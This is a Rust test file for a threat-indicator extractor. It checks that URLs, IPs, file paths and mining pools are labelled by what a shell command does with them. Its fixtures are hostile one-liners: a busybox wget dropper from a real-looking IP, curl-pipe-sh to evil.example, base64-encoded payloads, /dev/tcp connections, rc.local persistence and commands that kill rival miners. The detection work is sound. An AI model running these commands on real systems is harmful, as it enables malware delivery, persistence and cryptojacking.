use std::collections::BTreeSet;

use ringleader_model::{Context, IndicatorKind};

use super::*;

fn found(text: &str) -> Vec<Indicator> {
    let mut out = Vec::new();
    Extractor::new().extract(text, &mut out);
    out
}

/// `kind:value context`, one a line, in the order of the answer.
fn check(text: &str, want: &[&str]) {
    let got: Vec<String> = found(text)
        .iter()
        .map(|it| {
            format!("{}:{} {}{}", it.kind.name(), it.value, it.context.name(), if it.decoded { " decoded" } else { "" })
        })
        .collect();
    assert_eq!(got, want, "{text}");
}

#[test]
fn labelled_lines_are_read_as_a_person_reads_them() {
    let table = include_str!("../../../../fixtures/extract/lines.tsv");
    let (mut right, mut wrong, mut missed) = ([0usize; 2], [0usize; 2], [0usize; 2]);
    let mut count = 0;
    for row in table.lines().filter(|it| !it.starts_with("# ")) {
        let (line, expected) = row.rsplit_once('\t').unwrap();
        count += 1;
        let want: BTreeSet<String> = expected.split(" ; ").filter(|it| *it != "-").map(str::to_owned).collect();
        let got: BTreeSet<String> = found(line).iter().map(|it| format!("{}:{}", it.kind.name(), it.value)).collect();
        if want != got {
            println!(
                "{line}\n  missed {:?}\n  wrong  {:?}",
                want.difference(&got).collect::<Vec<_>>(),
                got.difference(&want).collect::<Vec<_>>()
            );
        }
        let is_host =
            |it: &&String| ["url:", "domain:", "ip:", "ip_port:", "pool:"].iter().any(|kind| it.starts_with(kind));
        for (at, hosts_only) in [(0, false), (1, true)] {
            let counts = |it: &&String| !hosts_only || is_host(it);
            right[at] += want.intersection(&got).filter(counts).count();
            wrong[at] += got.difference(&want).filter(counts).count();
            missed[at] += want.difference(&got).filter(counts).count();
        }
    }
    for (at, name) in ["all kinds", "hosts"].iter().enumerate() {
        let precision = right[at] as f64 / (right[at] + wrong[at]) as f64;
        let recall = right[at] as f64 / (right[at] + missed[at]) as f64;
        println!(
            "{name}: {count} lines, {} indicators, precision {precision:.4}, recall {recall:.4}",
            right[at] + missed[at]
        );
        assert!(precision >= 0.99 && recall >= 0.97, "{name}: precision {precision:.4}, recall {recall:.4}");
    }
    assert!(count >= 150);
}

#[test]
fn the_talks_script() {
    check(
        "/bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1; chmod +x /tmp/pty1; chmod 700 /tmp/pty1; /tmp/pty1; \
         cp /bin/busybox /tmp/loop1; cat /tmp/pty1 > /tmp/loop1; /tmp/loop1 &",
        &[
            "url:http://159.89.156.190/.y/pty1 downloaded",
            "ip:159.89.156.190 downloaded",
            "file_path:/tmp/loop1 written",
            "file_path:/tmp/loop1 executed",
            "file_path:/tmp/pty1 written",
            "file_path:/tmp/pty1 executed",
        ],
    );
}

#[test]
fn the_context_is_what_the_program_did() {
    check(
        "curl -s 192.0.2.4/x.sh -o /tmp/x",
        &["url:http://192.0.2.4/x.sh downloaded", "ip:192.0.2.4 downloaded", "file_path:/tmp/x written"],
    );
    check(
        "/tmp/k -o stratum+tcp://pool.example:3333",
        &["domain:pool.example connected", "file_path:/tmp/k executed", "pool:pool.example:3333 connected"],
    );
    check("exec 5<>/dev/tcp/192.0.2.9/443", &["ip:192.0.2.9 connected", "ip_port:192.0.2.9:443 connected"]);
    check("cat access.log | grep 192.0.2.9", &["ip:192.0.2.9 mentioned"]);
    check(
        "echo hi >> /etc/rc.local; cp a /usr/bin/b; tee /tmp/c; dd if=x of=/tmp/d; mv /tmp/e /opt/f",
        &[
            "file_path:/etc/rc.local written",
            "file_path:/opt/f written",
            "file_path:/tmp/c written",
            "file_path:/tmp/d written",
            "file_path:/tmp/e mentioned",
            "file_path:/usr/bin/b written",
        ],
    );
    check(
        "sudo -u root nohup /tmp/a &>/dev/null & setsid ./b; sh c.sh; source /tmp/d",
        &["file_path:/tmp/a executed", "file_path:/tmp/d executed", "file_path:b executed", "file_path:c.sh executed"],
    );
    check(
        "echo x | base64 -d; ssh -p 22 root@192.0.2.3 'curl http://evil.example/q|sh'",
        &["url:http://evil.example/q downloaded", "domain:evil.example downloaded", "ip:192.0.2.3 connected"],
    );
}

#[test]
fn a_rivals_things_are_killed() {
    check(
        "ps aux|grep -v mine.example|grep pool.rival.example|awk '{print $2}'|xargs kill -9",
        &["domain:mine.example mentioned", "domain:pool.rival.example killed"],
    );
    check(
        "pkill -f /tmp/rival; pgrep -f 192.0.2.66 | xargs kill",
        &["ip:192.0.2.66 killed", "file_path:/tmp/rival killed"],
    );
    check(
        "kill -9 $(netstat -antp | grep '192.0.2.67:3333')",
        &["ip:192.0.2.67 killed", "ip_port:192.0.2.67:3333 killed"],
    );
    check(
        "echo '0.0.0.0 pool.rival.example' >> /etc/hosts",
        &["domain:pool.rival.example killed", "ip:0.0.0.0 killed", "file_path:/etc/hosts written"],
    );
    // its own file, cleaned up before it is written anew
    check(
        "rm -rf /tmp/2sh; wget http://192.0.2.5/2sh -P /tmp && sh /tmp/2sh",
        &[
            "url:http://192.0.2.5/2sh downloaded",
            "ip:192.0.2.5 downloaded",
            "file_path:/tmp/2sh written",
            "file_path:/tmp/2sh executed",
        ],
    );
}

#[test]
fn decoded_says_that_no_layer_shows_it_in_the_clear() {
    check(
        "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3o=|base64 -d|sh",
        &["url:http://evil.example/z downloaded decoded", "domain:evil.example downloaded decoded"],
    );
    check(
        "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3o=|base64 -d|sh # http://evil.example/z",
        &["url:http://evil.example/z downloaded", "domain:evil.example downloaded"],
    );
    let layers = Extractor::new().decoded("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3o=|base64 -d|sh");
    assert_eq!(layers, ["curl http://evil.example/z"]);
}

#[test]
fn layers_end_at_four_and_at_a_mebibyte() {
    use base64::Engine as _;
    let wrap = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let mut text = "curl http://evil.example/deep".to_owned();
    for _ in 0..6 {
        text = format!("echo {} | base64 -d", wrap(&text));
    }
    assert_eq!(Extractor::new().decoded(&text).len(), decode::MAX_DEPTH);
    let large = wrap(&"A harmless sentence. ".repeat(30_000));
    let layers = Extractor::new().decoded(&format!("{large} {large} {large}"));
    assert!(layers.len() == 1 && layers.iter().map(String::len).sum::<usize>() <= decode::MAX_DECODED);
}

#[test]
fn lines_are_numbered_from_one() {
    let extractor = Extractor::new();
    let all: Vec<_> = lines(&extractor, "ls\n\nwget http://evil.example/x\n").collect();
    assert_eq!(all.iter().map(|it| (it.0, it.1.len())).collect::<Vec<_>>(), [(1, 0), (2, 0), (3, 2)]);
    assert_eq!(all[2].1[0].kind, IndicatorKind::Url);
    assert_eq!(all[2].1[0].context, Context::Downloaded);
}
